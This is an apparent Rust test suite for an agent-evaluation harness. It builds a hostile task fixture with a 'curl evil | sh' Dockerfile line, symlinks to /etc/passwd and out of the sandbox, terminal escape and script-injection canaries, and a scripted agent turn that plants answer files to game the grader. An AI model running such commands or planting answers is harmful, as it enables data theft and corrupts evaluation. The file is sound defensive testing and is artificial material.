//! A capsule that is against whoever runs it.

use std::fs;
use std::os::unix::fs::symlink;

use serde_json::{Map, Value, json};

use crate::attempt::Attempt;
use crate::capsule::{Capsule, Level, Question, Text};
use crate::place::{Place, Where};

/// A file beside the capsule, which no agent may see.
const OUTSIDE: &str = "canary-outside-7c1d";
const OUTPUT: &str = "The sum of the squares below a thousand.\nsum: 332833500.25\n";

fn hostile() -> Capsule {
    Capsule {
        id: "capsule-8100007",
        language: "Python",
        prompt: "Run `hostile.py`.",
        files: vec![
            Text {
                name: "REPRODUCING.md",
                text: "    cd code && bash run\n",
            },
            Text {
                name: "code/run",
                text: "python3 hostile.py ../results\n",
            },
            Text {
                name: "code/hostile.py",
                text: include_str!("code/hostile.py"),
            },
            Text {
                name: "data/numbers.txt",
                text: "1 2 3\n",
            },
            Text {
                name: "environment/Dockerfile",
                text: "FROM python:3.11-slim\nUSER root\nRUN curl evil | sh\n",
            },
            Text {
                name: "results/output.txt",
                text: OUTPUT,
            },
        ],
        material: &[],
        questions: vec![Question::same("Report the sum.", json!(332_833_500.25))],
        acts: |level| match level {
            Level::Easy => &["cat results/output.txt"],
            Level::Medium | Level::Hard => &[
                "cd code && python3 hostile.py ../results",
                "cat ../results/output.txt; cat ../results/passwd.txt | head -n 1",
            ],
        },
    }
}

/// Copies of results under other names, links out of the capsule, and answers that lie there beforehand.
fn spoil(capsule: &Capsule, place: &Place) {
    let id = capsule.id;
    place.write("outside.txt", OUTSIDE);
    let root = place.path().join(id);
    for (name, target) in [
        ("data/passwd", "/etc/passwd".to_owned()),
        ("data/climbing", "../../outside.txt".to_owned()),
        (
            "data/absolute",
            place.path().join("outside.txt").to_string_lossy().into_owned(),
        ),
        ("data/folder", "../..".to_owned()),
        ("data/loop", "loop".to_owned()),
        ("code/answers", "../results/output.txt".to_owned()),
    ] {
        symlink(target, root.join(name)).unwrap();
    }
    symlink("numbers.txt", root.join("data/inside.txt")).unwrap();
    for name in ["report.json", "code/deep/report.json"] {
        place.write(&format!("{id}/{name}"), "{\"Report the sum.\": 332833500.25}");
    }
    for name in ["data/.old.bin", "code/deep/fixtures.dat"] {
        place.write(&format!("{id}/{name}"), OUTPUT);
    }
}

/// The files at a level: the capsule's own, and what of the spoilt ones an agent may see.
fn expected(capsule: &Capsule, level: Level) -> Vec<String> {
    let mut names = capsule.expected(level);
    names.push("./data/inside.txt".to_owned());
    if level == Level::Easy {
        names.extend(["./code/answers", "./code/deep/fixtures.dat", "./data/.old.bin"].map(str::to_owned));
    }
    names.sort();
    names
}

/// Nothing of what stands outside, and no answers but those that were handed in.
fn hidden(attempt: &Attempt, level: Level) {
    assert!(!attempt.journal().contains(OUTSIDE));
    let left_out = attempt.events("run_started")[0]["left_out"].to_string();
    let mut named = vec![
        "report.json",
        "data/passwd",
        "data/climbing",
        "data/absolute",
        "data/folder",
        "data/loop",
    ];
    if level != Level::Easy {
        named.extend(["data/.old.bin", "code/deep/fixtures.dat", "code/answers"]);
    }
    for name in named {
        assert!(
            left_out.contains(name),
            "{name} is left out and not named: {left_out}"
        );
    }
    for entry in walkdir::WalkDir::new(attempt.run.join("workspace")) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let bytes = fs::read(entry.path()).unwrap();
            assert!(
                !String::from_utf8_lossy(&bytes).contains(OUTSIDE),
                "{}",
                entry.path().display()
            );
        }
    }
}

fn at(level: Level, sandbox: Where) {
    let capsule = hostile();
    let Some(place) = Place::with(&capsule, sandbox) else {
        return;
    };
    spoil(&capsule, &place);
    let attempt = Attempt::made(&place, level, sandbox, level.name());
    assert_eq!(attempt.listed(), expected(&capsule, level));
    hidden(&attempt, level);
    attempt.assert_right(1);
    let report = fs::read_to_string(attempt.run.join("artifacts/report.json")).unwrap();
    assert!(report.contains("332833500.25"), "{report}");
    if level == Level::Easy {
        return;
    }
    let observations = attempt.observations();
    assert!(
        observations[1].len() < 64 << 10,
        "{} bytes reach the model",
        observations[1].len()
    );
    assert!(observations[1].contains("logs/shell/"), "{}", observations[1]);
    let logs = fs::read_dir(attempt.run.join("workspace/logs/shell")).unwrap();
    // The pipes of the shell stand there as well.
    let files = logs
        .map(|entry| entry.unwrap())
        .filter(|entry| entry.file_type().unwrap().is_file());
    let whole = files.map(|entry| fs::read(entry.path()).unwrap());
    let whole = whole.filter(|bytes| memchr::memmem::find(bytes, b"0119999 line after line").is_some());
    assert_eq!(whole.count(), 1, "the whole output stands in one file on disk");
    // Terminals and pages show no control characters and no scripts.
    for shown in [&attempt.stdout, &attempt.stderr] {
        assert!(
            !shown.contains("\x1b]0;owned") && !shown.contains("\x1b[2J"),
            "{shown:?}"
        );
    }
    let page = fs::read_to_string(attempt.run.join("report.html")).unwrap();
    assert!(
        !page.contains("<script>alert('canary-script')"),
        "the page holds the script"
    );
}

#[test]
fn a_hostile_capsule_at_easy() {
    at(Level::Easy, Where::Docker);
}

#[test]
fn a_hostile_capsule_at_medium() {
    at(Level::Medium, Where::Docker);
}

#[test]
fn a_hostile_capsule_at_hard_without_containers() {
    at(Level::Hard, Where::Local);
}

/// A report that a script left in the folder is nobody's answer.
#[test]
fn what_lies_in_the_folder_is_not_handed_in() {
    let capsule = hostile();
    let Some(place) = Place::with(&capsule, Where::Local) else {
        return;
    };
    let mut recording = capsule.recording(Level::Hard, &Map::new());
    let turns = recording["stages"]["reproduce"]["turns"].as_array_mut().unwrap();
    let act = "printf '{\"Report the sum.\": 332833500.25}' | tee report.json ../report.json ../../../report.json > /dev/null; \
               ln -s /etc/hostname ../../report.json";
    turns.insert(
        1,
        json!({"answer": {"calls": [{"name": "bash", "arguments": {"command": act}}]}}),
    );
    // Handed in without an answer, handed back, and handed in the same way again.
    let again: Value = turns.last().unwrap().clone();
    turns.push(again);
    place.record("planted", &recording);
    let attempt = Attempt::made(&place, Level::Hard, Where::Local, "planted");
    let grade = attempt.grade();
    assert_eq!(grade["parts"][0]["score"], 0.0, "{grade}");
    assert!(
        grade["others"]
            .as_array()
            .unwrap()
            .iter()
            .all(|one| one["right"] == 0),
        "{grade}"
    );
}
